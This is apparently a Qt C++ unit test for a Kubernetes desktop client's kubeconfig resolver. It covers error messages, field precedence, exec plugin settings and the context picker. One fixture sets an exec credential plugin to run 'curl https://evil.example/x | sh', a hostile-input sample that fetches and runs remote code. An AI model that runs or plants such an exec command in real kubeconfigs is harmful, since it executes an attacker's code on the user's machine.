// kubeconfig resolving (behaviour reference §1; hostile inputs §7 items 3-7 and 10): every
// field and validation with a message naming the file, line and entry, and the picker's list.
// Redaction has its own test (tst_redact).
#include "kubeconfigfixture.h"

#include <QDir>
#include <QFile>
#include <QStandardPaths>

using namespace kd::kube;
using kd::testing::errorText;
using kd::testing::kOpenSshKey;
using kd::testing::lineContaining;
using kd::testing::onlyFile;
using kd::testing::verifyNoSecret;
using kd::testing::writeFile;

class TstKubeconfigResolve final : public QObject, private kd::testing::KubeconfigFixture {
    Q_OBJECT

private slots:
    void initTestCase() { setUpFixture(); }

    // --- fields and validation ---------------------------------------------------------

    void resolveRefuses_data() {
        QTest::addColumn<QByteArray>("clusterExtra");
        QTest::addColumn<QByteArray>("user");
        QTest::addColumn<QByteArray>("context");
        QTest::addColumn<QByteArray>("lineOf"); // the line the message must point at
        QTest::addColumn<QString>("message");   // after "file:line: "
        const QByteArray ctx = "    cluster: c1\n    user: alice\n";
        QTest::newRow("cert without key")
            << QByteArray() << QByteArray("    client-certificate-data: %CERT64\n") << ctx
            << QByteArray("client-certificate-data")
            << QStringLiteral("user \"alice\": a client certificate without a client key (set "
                              "client-key or client-key-data)");
        QTest::newRow("key without cert")
            << QByteArray() << QByteArray("    client-key-data: %KEY64\n") << ctx
            << QByteArray("client-key-data")
            << QStringLiteral("user \"alice\": a client key without a client certificate (set "
                              "client-certificate or client-certificate-data)");
        QTest::newRow("token and basic auth")
            << QByteArray()
            << QByteArray("    token: tok-s3cr3t\n    username: bob\n    password: pw-s3cr3t\n")
            << ctx << QByteArray("    token:")
            << QStringLiteral("user \"alice\": more than one authentication method (token, basic "
                              "auth); use only one");
        QTest::newRow("token and exec")
            << QByteArray()
            << QByteArray("    token: tok-s3cr3t\n    exec:\n      apiVersion: "
                          "client.authentication.k8s.io/v1beta1\n      command: aws\n")
            << ctx << QByteArray("    token:")
            << QStringLiteral("user \"alice\": more than one authentication method (token, exec); "
                              "use only one");
        QTest::newRow("CA and insecure")
            << QByteArray(
                   "    certificate-authority-data: %CA64\n    insecure-skip-tls-verify: true\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx
            << QByteArray("insecure-skip-tls-verify")
            << QStringLiteral(
                   "cluster \"c1\": a certificate authority and insecure-skip-tls-verify: "
                   "true cannot be used together; remove one of them");
        QTest::newRow("CA file and insecure")
            << QByteArray(
                   "    certificate-authority: %DIR/ca.pem\n    insecure-skip-tls-verify: true\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx
            << QByteArray("insecure-skip-tls-verify")
            << QStringLiteral(
                   "cluster \"c1\": a certificate authority and insecure-skip-tls-verify: "
                   "true cannot be used together; remove one of them");
        QTest::newRow("proxy ftp")
            << QByteArray("    proxy-url: ftp://user:pw-s3cr3t@proxy.example:21\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx << QByteArray("proxy-url")
            << QStringLiteral("cluster \"c1\": proxy-url scheme \"ftp\" is not supported (use "
                              "http, https or socks5)");
        QTest::newRow("CA data not base64")
            << QByteArray("    certificate-authority-data: \"!!!s3cr3t@@\"\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx
            << QByteArray("certificate-authority-data")
            << QStringLiteral("cluster \"c1\": certificate-authority-data is not valid base64");
        QTest::newRow("CA data not PEM")
            << QByteArray("    certificate-authority-data: ") +
                   QByteArray("hello s3cr3t").toBase64() + "\n"
            << QByteArray("    token: tok-s3cr3t\n") << ctx
            << QByteArray("certificate-authority-data")
            << QStringLiteral(
                   "cluster \"c1\": certificate-authority-data is not a PEM certificate");
        QTest::newRow("CA file not PEM")
            << QByteArray("    certificate-authority: %DIR/token\n")
            << QByteArray("    token: tok-s3cr3t\n") << ctx << QByteArray("certificate-authority")
            << QStringLiteral("cluster \"c1\": certificate-authority \"%DIR/token\" is not a PEM "
                              "certificate");
        QTest::newRow("client key data not base64")
            << QByteArray()
            << QByteArray("    client-certificate-data: %CERT64\n    client-key-data: s3cr3t$$\n")
            << ctx << QByteArray("client-key-data")
            << QStringLiteral("user \"alice\": client-key-data is not valid base64");
        QTest::newRow("client key is an OpenSSH key")
            << QByteArray()
            << QByteArray("    client-certificate-data: %CERT64\n    client-key: %DIR/id_rsa\n")
            << ctx << QByteArray("client-key:")
            << QStringLiteral(
                   "user \"alice\": client-key \"%DIR/id_rsa\" is an OpenSSH private key "
                   "(like ~/.ssh/id_rsa), not a PEM client key for Kubernetes; refusing "
                   "to use it");
        QTest::newRow("client key data is a certificate")
            << QByteArray()
            << QByteArray("    client-certificate-data: %CERT64\n    client-key-data: %CERT64\n")
            << ctx << QByteArray("client-key-data")
            << QStringLiteral("user \"alice\": client-key-data is not a PEM private key");
        QTest::newRow("client key file missing")
            << QByteArray()
            << QByteArray(
                   "    client-certificate-data: %CERT64\n    client-key: %DIR/missing.key\n")
            << ctx << QByteArray("client-key:")
            << QStringLiteral(
                   "user \"alice\": cannot read client-key \"%DIR/missing.key\": No such "
                   "file or directory");
        QTest::newRow("tokenFile is an OpenSSH key")
            << QByteArray() << QByteArray("    tokenFile: %DIR/id_rsa\n") << ctx
            << QByteArray("tokenFile")
            << QStringLiteral("user \"alice\": tokenFile \"%DIR/id_rsa\" holds a private key or "
                              "certificate, not a bearer token; refusing to send it");
        QTest::newRow("bad namespace")
            << QByteArray() << QByteArray("    token: tok-s3cr3t\n")
            << ctx + "    namespace: Bad_Namespace\n"
            << QByteArray("namespace")
            << QStringLiteral(
                   "context \"ctx\": namespace \"Bad_Namespace\" is not a valid DNS label "
                   "(lowercase letters, digits and '-', at most 63 characters, starting "
                   "and ending with a letter or digit)");
        QTest::newRow("namespace of 64 characters")
            << QByteArray() << QByteArray("    token: tok-s3cr3t\n")
            << ctx + "    namespace: " + QByteArray(64, 'a') + "\n"
            << QByteArray("namespace")
            << QStringLiteral("context \"ctx\": namespace \"%1\" is not a valid DNS label "
                              "(lowercase letters, digits and '-', at most 63 characters, starting "
                              "and ending with a letter or digit)")
                   .arg(QString(64, u'a'));
        QTest::newRow("missing user")
            << QByteArray() << QByteArray("    token: tok-s3cr3t\n")
            << QByteArray("    cluster: c1\n    user: nobody\n") << QByteArray("user: nobody")
            << QStringLiteral("context \"ctx\": user \"nobody\" is not defined in any loaded "
                              "kubeconfig file");
        QTest::newRow("missing cluster")
            << QByteArray() << QByteArray("    token: tok-s3cr3t\n")
            << QByteArray("    cluster: nowhere\n    user: alice\n")
            << QByteArray("cluster: nowhere")
            << QStringLiteral("context \"ctx\": cluster \"nowhere\" is not defined in any loaded "
                              "kubeconfig file");
        QTest::newRow("gcp auth-provider")
            << QByteArray() << QByteArray("    auth-provider:\n      name: gcp\n") << ctx
            << QByteArray("auth-provider")
            << QStringLiteral("user \"alice\": the gcp auth-provider was removed from Kubernetes "
                              "clients; install gke-gcloud-auth-plugin and use it as an exec "
                              "credential plugin (gcloud container clusters get-credentials writes "
                              "that kubeconfig)");
        QTest::newRow("azure auth-provider")
            << QByteArray() << QByteArray("    auth-provider:\n      name: azure\n") << ctx
            << QByteArray("auth-provider")
            << QStringLiteral("user \"alice\": the azure auth-provider was removed from Kubernetes "
                              "clients; install kubelogin and convert the kubeconfig with "
                              "\"kubelogin convert-kubeconfig\" to use it as an exec credential "
                              "plugin");
        QTest::newRow("oidc auth-provider")
            << QByteArray()
            << QByteArray("    auth-provider:\n      name: oidc\n      config:\n        id-token: "
                          "id-s3cr3t\n")
            << ctx << QByteArray("auth-provider")
            << QStringLiteral("user \"alice\": the oidc auth-provider is not supported by Kubedeck "
                              "yet; use an exec credential plugin such as kubelogin (kubectl "
                              "oidc-login)");
        QTest::newRow("exec v1alpha1")
            << QByteArray()
            << QByteArray("    exec:\n      apiVersion: client.authentication.k8s.io/v1alpha1\n"
                          "      command: aws\n")
            << ctx << QByteArray("apiVersion: client")
            << QStringLiteral("user \"alice\": exec apiVersion "
                              "\"client.authentication.k8s.io/v1alpha1\" is not supported (use "
                              "client.authentication.k8s.io/v1 or "
                              "client.authentication.k8s.io/v1beta1)");
        QTest::newRow("exec v1 without interactiveMode")
            << QByteArray()
            << QByteArray("    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
                          "      command: aws\n")
            << ctx << QByteArray("    exec:")
            << QStringLiteral("user \"alice\": exec interactiveMode is required for "
                              "client.authentication.k8s.io/v1 (Never, IfAvailable or Always)");
        QTest::newRow("exec bad interactiveMode")
            << QByteArray()
            << QByteArray("    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
                          "      command: aws\n      interactiveMode: Sometimes\n")
            << ctx << QByteArray("interactiveMode")
            << QStringLiteral("user \"alice\": exec interactiveMode \"Sometimes\" is not one of "
                              "Never, IfAvailable, Always");
    }
    void resolveRefuses() {
        QFETCH(QByteArray, clusterExtra);
        QFETCH(QByteArray, user);
        QFETCH(QByteArray, context);
        QFETCH(QByteArray, lineOf);
        QFETCH(QString, message);
        const QString file = path(QStringLiteral("refuse/config"));
        const QByteArray text = document(clusterExtra, user, context);
        writeFile(file, text);
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY(config.ok());
        auto rest = config->resolve();
        QVERIFY(!rest.ok());
        QCOMPARE(rest.error().kind, ErrorKind::Config);
        const int line = lineContaining(text, lineOf);
        QVERIFY(line > 0);
        QCOMPARE(rest.error().message,
                 QStringLiteral("%1:%2: ").arg(file).arg(line) +
                     QString(message).replace(QStringLiteral("%DIR"), m_dir.path()));
        verifyNoSecret(rest.error().message);
    }

    void currentContextPointingNowhere() {
        const QString file = path(QStringLiteral("nowhere/config"));
        writeFile(file, "current-context: ghost\ncontexts:\n- name: real\n  context:\n    cluster: "
                        "c\n    user: u\n");
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY(config.ok());
        QCOMPARE(
            config->resolve().error().message,
            QStringLiteral("%1: current-context \"ghost\" does not name a context in any loaded "
                           "kubeconfig file")
                .arg(file));
        QCOMPARE(
            config->resolve(QStringLiteral("other")).error().message,
            QStringLiteral("context \"other\" is not defined in any loaded kubeconfig file (%1)")
                .arg(file));
        writeFile(file, "contexts:\n- name: real\n  context:\n    cluster: c\n    user: u\n");
        auto unset = loadKubeconfig(onlyFile(file));
        QCOMPARE(unset->resolve().error().message,
                 QStringLiteral("no current-context is set (%1); choose a context").arg(file));
    }

    void resolveFields() {
        const QString file = path(QStringLiteral("fields/config"));
        writeFile(file,
                  document("    certificate-authority-data: %CA64\n    certificate-authority: "
                           "/does/not/exist\n    tls-server-name: api.internal\n"
                           "    proxy-url: socks5://proxy.example:1080\n"
                           "    extensions:\n    - name: client.authentication.k8s.io/exec\n"
                           "      extension:\n        audience: kubedeck\n",
                           "    client-certificate-data: %CERT64\n    client-certificate: /nope\n"
                           "    client-key-data: %KEY64\n    token: static-s3cr3t\n"
                           "    tokenFile: %DIR/token\n",
                           "    cluster: c1\n    user: alice\n    namespace: \"\"\n"));
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY(config.ok());
        auto rest = config->resolve(QStringLiteral("ctx"));
        QVERIFY2(rest.ok(), qPrintable(errorText(rest)));
        QCOMPARE(rest->contextName, QStringLiteral("ctx"));
        QCOMPARE(rest->clusterName, QStringLiteral("c1"));
        QCOMPARE(rest->userName, QStringLiteral("alice"));
        QCOMPARE(rest->namespaceName, QStringLiteral("default"));
        QCOMPARE(rest->sourceFile, file);
        QCOMPARE(rest->server, QUrl(QStringLiteral("https://k.example:6443")));
        QCOMPARE(rest->caPem, QByteArray::fromStdString(m_ca.certPem)); // data wins over path
        QCOMPARE(rest->clientCertPem, QByteArray::fromBase64(m_cert64));
        QCOMPARE(rest->clientKeyPem, QByteArray::fromBase64(m_key64));
        QCOMPARE(rest->tlsServerName, QStringLiteral("api.internal"));
        QCOMPARE(rest->proxyUrl, QUrl(QStringLiteral("socks5://proxy.example:1080")));
        QCOMPARE(rest->tokenFile, path(QStringLiteral("token"))); // wins over token
        QCOMPARE(rest->bearerToken, QByteArray());
        QCOMPARE(rest->clusterExtensionJson, QByteArray("{\"audience\":\"kubedeck\"}"));
        QCOMPARE(rest->insecureSkipTlsVerify, false);
        QVERIFY(!rest->exec);
    }

    void resolveExecFields() {
        const QString file = path(QStringLiteral("execfields/config"));
        writeFile(file, document("    insecure-skip-tls-verify: true\n",
                                 "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
                                 "      command: /bin/sh\n      args: [\"-c\", \"curl "
                                 "https://evil.example/x | sh\"]\n"
                                 "      env:\n      - name: AWS_PROFILE\n        value: prod\n"
                                 "      installHint: install it\n      provideClusterInfo: true\n"
                                 "      interactiveMode: IfAvailable\n",
                                 "    cluster: c1\n    user: alice\n    namespace: ml-serving\n"));
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY(config.ok());
        auto rest = config->resolve();
        QVERIFY2(rest.ok(), qPrintable(errorText(rest)));
        QVERIFY(rest->insecureSkipTlsVerify);
        QCOMPARE(rest->namespaceName, QStringLiteral("ml-serving"));
        QVERIFY(rest->exec);
        QCOMPARE(rest->exec->apiVersion, QStringLiteral("client.authentication.k8s.io/v1"));
        QCOMPARE(rest->exec->command, QStringLiteral("/bin/sh"));
        QCOMPARE(rest->exec->resolvedCommand, QStringLiteral("/bin/sh"));
        QCOMPARE(rest->exec->args,
                 (QStringList{QStringLiteral("-c"),
                              QStringLiteral("curl https://evil.example/x | sh")}));
        QCOMPARE(rest->exec->env.size(), 1);
        QCOMPARE(rest->exec->env[0].first, QStringLiteral("AWS_PROFILE"));
        QCOMPARE(rest->exec->env[0].second, QStringLiteral("prod"));
        QCOMPARE(rest->exec->installHint, QStringLiteral("install it"));
        QVERIFY(rest->exec->provideClusterInfo);
        QCOMPARE(rest->exec->interactiveMode, QStringLiteral("IfAvailable"));
    }

    void contextsForThePicker() {
        const QString file = path(QStringLiteral("picker/config"));
        writeFile(
            file,
            QByteArray(
                "clusters:\n- name: prod\n  cluster:\n    server: https://prod.example\n"
                "- name: lab\n  cluster:\n    server: https://lab.example\n    "
                "insecure-skip-tls-verify: true\n"
                "users:\n- name: cert\n  user:\n    client-certificate-data: %CERT64\n    "
                "client-key-data: %KEY64\n"
                "- name: tok\n  user:\n    token: t-s3cr3t\n"
                "- name: aws\n  user:\n    exec:\n      command: /usr/local/bin/aws\n"
                "- name: gcp\n  user:\n    auth-provider:\n      name: gcp\n"
                "contexts:\n"
                "- name: a\n  context:\n    cluster: prod\n    user: cert\n    namespace: ml\n"
                "- name: b\n  context:\n    cluster: lab\n    user: tok\n"
                "- name: c\n  context:\n    cluster: prod\n    user: aws\n"
                "- name: d\n  context:\n    cluster: prod\n    user: gcp\n"
                "- name: e\n  context:\n    cluster: gone\n    user: ghost\n")
                .replace("%CERT64", m_cert64)
                .replace("%KEY64", m_key64));
        auto config = loadKubeconfig(onlyFile(file));
        QVERIFY2(config.ok(), qPrintable(errorText(config)));
        const auto contexts = config->contexts();
        QCOMPARE(contexts.size(), 5);
        QStringList methods;
        for (const auto &c : contexts) {
            methods.append(c.authMethod);
            QCOMPARE(c.sourceFile, file);
        }
        QCOMPARE(methods,
                 (QStringList{QStringLiteral("client certificate"), QStringLiteral("token"),
                              QStringLiteral("exec: aws"), QStringLiteral("auth-provider: gcp"),
                              QStringLiteral("unknown user")}));
        QCOMPARE(contexts[0].namespaceName, QStringLiteral("ml"));
        QCOMPARE(contexts[0].server, QStringLiteral("https://prod.example"));
        QCOMPARE(contexts[0].insecure, false);
        QCOMPARE(contexts[1].namespaceName, QStringLiteral("default"));
        QCOMPARE(contexts[1].insecure, true);
        QCOMPARE(contexts[1].cluster, QStringLiteral("lab"));
        QCOMPARE(contexts[1].user, QStringLiteral("tok"));
        QCOMPARE(contexts[4].server, QString());
    }
};

QTEST_GUILESS_MAIN(TstKubeconfigResolve)
#include "tst_kubeconfigresolve.moc"
